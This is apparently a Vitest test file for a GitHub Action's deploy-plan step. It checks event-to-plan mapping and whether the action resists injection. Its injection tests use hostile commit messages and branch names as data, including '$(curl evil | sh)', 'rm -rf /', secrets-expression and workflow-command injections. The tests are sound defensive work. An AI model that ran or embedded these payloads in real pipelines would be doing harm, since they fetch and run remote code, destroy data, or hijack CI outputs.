import { describe, expect, it } from 'vitest';
import { parsePolicy } from '@agent-loop/shared';
import {
  dispatchEvent,
  MERGE_SHA,
  pullRequestEvent,
  pushEvent,
  SHA,
} from '../packages/shared/test/support/github-events';
import { runAction, type RunActionResult } from './lab/run-action';

/** The plan bundle as GitHub runs it: Node 24, the event payload in GITHUB_EVENT_PATH, outputs and summary in the runner's files. */

const OUTPUTS = [
  'kind',
  'environment',
  'deploy',
  'version',
  'image-tag',
  'image',
  'gates',
  'canary-percent',
  'canary-steps',
  'canary-duration',
  'error-threshold',
  'latency-p95-ms',
  'policy',
  'notify-immediately',
  'model',
  'reason',
];
const ALL_GATES = '["lint","typecheck","unit","integration","security-scan","load-test"]';

function plan(
  event: unknown,
  env: { GITHUB_EVENT_NAME: string; GITHUB_REF: string; GITHUB_SHA?: string },
  inputs: Record<string, string> = {},
): Promise<RunActionResult> {
  return runAction({
    action: 'plan',
    inputs: { 'image-repository': 'ghcr.io/org/agent-loop', ...inputs },
    event,
    env: { GITHUB_SHA: SHA, ...env },
  });
}

function expectSuccess(result: RunActionResult): void {
  expect(result.stdout.split('\n').filter((line) => line.startsWith('::error::'))).toEqual([]);
  expect(result.code).toBe(0);
  expect(Object.keys(result.outputs).sort()).toEqual([...OUTPUTS].sort());
  expect(() => parsePolicy(result.outputs.policy)).not.toThrow();
}

describe('plan bundle: one run per kind', () => {
  it('push to main → normal', async () => {
    const result = await plan(pushEvent('refs/heads/main'), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/heads/main',
    });
    expectSuccess(result);
    expect(result.outputs).toEqual({
      kind: 'normal',
      environment: 'production',
      deploy: 'true',
      version: 'sha-0123456',
      'image-tag': 'sha-0123456',
      image: 'ghcr.io/org/agent-loop:sha-0123456',
      gates: ALL_GATES,
      'canary-percent': '10',
      'canary-steps': '10',
      'canary-duration': '300',
      'error-threshold': '0.01',
      'latency-p95-ms': '2000',
      policy: result.outputs.policy,
      'notify-immediately': 'false',
      model: 'false',
      reason: 'Push to the main branch: normal deploy.',
    });
    expect(result.summary).toContain('### 🚀 normal deploy of sha-0123456 to production');
    expect(result.summary).toContain('| gates | lint, typecheck, unit, integration, security-scan, load-test |');
    expect(result.summary).toContain('| limits | error rate ≤ 1%, P95 ≤ 2000 ms |');
    expect(result.stdout).toContain('normal: Push to the main branch: normal deploy.');
  });

  it('release tag → release, versioned by the tag', async () => {
    const result = await plan(pushEvent('refs/tags/v1.2.3'), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/tags/v1.2.3',
    });
    expectSuccess(result);
    expect(result.outputs).toMatchObject({
      kind: 'release',
      deploy: 'true',
      version: 'v1.2.3',
      'image-tag': 'v1.2.3',
      image: 'ghcr.io/org/agent-loop:v1.2.3',
      gates: ALL_GATES,
    });
    expect(result.summary).toContain('### 🚀 release deploy of v1.2.3 to production');
  });

  it('model marker → model, with a ramp', async () => {
    const result = await plan(pushEvent('refs/heads/main', 'Retrain the ranker [train-model]'), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/heads/main',
    });
    expectSuccess(result);
    expect(result.outputs).toMatchObject({
      kind: 'model',
      model: 'true',
      'canary-steps': '10,25,50,100',
      'canary-percent': '10',
    });
    expect(result.summary).toContain('| canary | 10% → 25% → 50% → 100%, 300 s per step |');
  });

  it('hotfix branch → hotfix: fewer gates, reinforced canary, immediate notification', async () => {
    const result = await plan(pushEvent('refs/heads/hotfix/login-timeout'), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/heads/hotfix/login-timeout',
    });
    expectSuccess(result);
    expect(result.outputs).toMatchObject({
      kind: 'hotfix',
      gates: '["lint","typecheck","unit"]',
      'canary-duration': '600',
      'error-threshold': '0.005',
      'latency-p95-ms': '1500',
      'notify-immediately': 'true',
    });
    const policy = parsePolicy(result.outputs.policy);
    expect(policy.durationSeconds).toBe(600);
    expect(policy.rules.find((rule) => rule.name === 'error-rate')?.threshold).toBe(0.005);
    expect(result.summary).toContain('| limits | error rate ≤ 0.5%, P95 ≤ 1500 ms |');
  });

  it('pull request opened → none: gates only', async () => {
    const result = await plan(pullRequestEvent({ action: 'opened', merged: false }), {
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_REF: 'refs/pull/42/merge',
    });
    expectSuccess(result);
    expect(result.outputs).toMatchObject({
      kind: 'none',
      environment: 'none',
      deploy: 'false',
      gates: ALL_GATES,
      'notify-immediately': 'false',
    });
    expect(result.summary).toContain('### 🧪 Gates only: nothing deploys');
  });

  it('merged pull request → normal, on the merge commit', async () => {
    const result = await plan(pullRequestEvent({}), {
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_REF: 'refs/pull/42/merge',
    });
    expectSuccess(result);
    expect(result.outputs).toMatchObject({ kind: 'normal', version: `sha-${MERGE_SHA.slice(0, 7)}` });
  });

  it('workflow_dispatch → normal, or the kind its input chose; custom hotfix-skip', async () => {
    const normal = await plan(
      dispatchEvent(null),
      { GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_REF: 'refs/heads/main' },
      { 'image-repository': '' },
    );
    expectSuccess(normal);
    expect(normal.outputs).toMatchObject({ kind: 'normal', image: '' });
    const hotfix = await plan(
      dispatchEvent({ kind: 'hotfix' }),
      { GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_REF: 'refs/heads/main' },
      { 'hotfix-skip': 'load-test' },
    );
    expectSuccess(hotfix);
    expect(hotfix.outputs).toMatchObject({
      kind: 'hotfix',
      gates: '["lint","typecheck","unit","integration","security-scan"]',
    });
  });
});

describe('plan bundle: untrusted messages and branch names', () => {
  /** Everything the run left behind: what GitHub would show or pass on. */
  const seen = (result: RunActionResult) =>
    [result.stdout, result.stderr, result.summary, JSON.stringify(result.outputs)].join('\n');

  it.each([
    ['[train-model] $(curl evil | sh)', ['curl evil', '$(']],
    ['Fix ${{ secrets.X }} [train-model]', ['${{', 'secrets.X']],
    [
      'Update\n::set-output name=kind::release\n::add-mask::sha-0123456\n::error::pwned\nrelease<<EOF\n[train-model]',
      ['set-output', 'pwned', 'EOF', '::add-mask::'],
    ],
  ])('the head commit message %j selects the model plan and is never echoed', async (message, fragments) => {
    const result = await plan(pushEvent('refs/heads/main', message), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/heads/main',
    });
    expectSuccess(result);
    expect(result.outputs.kind).toBe('model');
    expect(result.outputs['image-tag']).toBe('sha-0123456');
    for (const fragment of fragments) expect(seen(result)).not.toContain(fragment);
    expect(result.stdout.split('\n').filter((line) => line.startsWith('::'))).toEqual([]);
  });

  it.each(['hotfix/$(id)', 'hotfix/";rm -rf /;"'])('the branch %j is a hotfix and is never echoed', async (branch) => {
    const result = await plan(pushEvent(`refs/heads/${branch}`), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: `refs/heads/${branch}`,
    });
    expectSuccess(result);
    expect(result.outputs.kind).toBe('hotfix');
    expect(seen(result)).not.toContain(branch);
    expect(seen(result)).not.toContain('hotfix/');
  });

  it('the tag v1.2.3;echo is not a release and is never echoed', async () => {
    const result = await plan(pushEvent('refs/tags/v1.2.3;echo'), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/tags/v1.2.3;echo',
    });
    expectSuccess(result);
    expect(result.outputs).toMatchObject({ kind: 'none', deploy: 'false', version: 'sha-0123456' });
    expect(seen(result)).not.toContain('v1.2.3');
  });

  it('a 1 MB commit message', async () => {
    const message = `${'A'.repeat(1024 * 1024)}\n[train-model]`;
    const result = await plan(pushEvent('refs/heads/main', message), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/heads/main',
    });
    expectSuccess(result);
    expect(result.outputs.kind).toBe('model');
    expect(seen(result)).not.toContain('AAAAAAAA');
    expect(seen(result).length).toBeLessThan(20_000);
  });
});

describe('plan bundle: bad inputs and environment', () => {
  it.each([
    [
      'hotfix-skip',
      'integration,bogus',
      "::error::Input 'hotfix-skip': expected a comma-separated list of " +
        "lint, typecheck, unit, integration, security-scan, load-test, or none, got 'integration,bogus'",
    ],
    [
      'image-repository',
      'ghcr.io/Org/App:latest',
      "::error::Input 'image-repository': expected an image repository without a tag, such as ghcr.io/org/agent-loop, got 'ghcr.io/Org/App:latest'",
    ],
    ['main-branch', 'main;rm', "::error::Input 'main-branch': expected a branch name such as main, got 'main;rm'"],
    [
      'hotfix-prefix',
      'hot fix/',
      "::error::Input 'hotfix-prefix': expected a branch-name prefix such as hotfix/, got 'hot fix/'",
    ],
  ])('%s: %j fails before anything else, naming the input', async (name, value, message) => {
    const result = await plan(
      pushEvent('refs/heads/main'),
      { GITHUB_EVENT_NAME: 'push', GITHUB_REF: 'refs/heads/main' },
      { [name]: value },
    );
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(message);
    expect(result.outputs).toEqual({});
  });

  it('a GITHUB_SHA that is not a commit sha, and an unknown dispatch kind (not echoed), fail', async () => {
    const sha = await plan(pushEvent('refs/heads/main'), {
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REF: 'refs/heads/main',
      GITHUB_SHA: 'HEAD',
    });
    expect(sha.code).toBe(1);
    expect(sha.stdout).toContain('::error::GITHUB_SHA: expected a 40-character hexadecimal commit sha');
    const kind = await plan(dispatchEvent({ kind: 'prod$(id)' }), {
      GITHUB_EVENT_NAME: 'workflow_dispatch',
      GITHUB_REF: 'refs/heads/main',
    });
    expect(kind.code).toBe(1);
    expect(kind.stdout).toContain(
      "::error::workflow_dispatch input 'kind': expected one of normal, release, model, hotfix, none",
    );
    expect(kind.stdout).not.toContain('$(id)');
    expect(kind.outputs).toEqual({});
  });
});
